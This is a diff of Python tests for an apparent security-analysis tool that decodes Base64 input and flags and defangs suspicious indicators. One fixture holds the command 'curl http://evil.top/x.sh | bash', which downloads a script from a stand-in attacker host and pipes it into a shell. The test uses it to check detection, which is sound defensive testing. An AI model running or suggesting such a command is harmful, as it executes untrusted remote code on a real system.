@@ -63,12 +63,12 @@ def test_indicators_are_counted_by_type_and_shown_harmless():
     assert "port 8080" in section
 
 
-def test_a_decoded_command_is_shown_whole_and_called_code():
+def test_a_decoded_command_is_shown_whole_and_named():
     plain = "curl http://evil.top/x.sh | bash"
-    found = of(decode.unwrap(base64.b64encode(plain.encode()).decode(), source="prompt"))
+    found = of(decode.inspect(base64.b64encode(plain.encode()).decode(), source="prompt"))
     verdict = decode_section.verdict(found)
     assert verdict.startswith(f"**Decoded** through 1 layer (Base64): `{plain}`.")
-    assert "code that should not run" in verdict
+    assert "**Suspicious:** a download piped into a shell (curl hxxp://evil" in verdict
     assert "`hxxp://evil[.]top/x.sh`" in decode_section.SECTION.body(found)
 
 
@@ -84,7 +84,7 @@ def test_evidence_can_make_no_link_no_image_and_no_html(section):
     items = {
         cvss_section: [*cvss.inspect(f"{HOSTILE} {vector}", source=HOSTILE)],
         indicators_section: [*indicators.inspect(f"hxxp://evil.top/a {HOSTILE}", source=HOSTILE)],
-        decode_section: [*decode.unwrap(f"decode this: {wrapped}", source=HOSTILE)],
+        decode_section: [*decode.inspect(f"decode this: {wrapped}", source=HOSTILE)],
     }[section]
     found = of(items)
     assert found
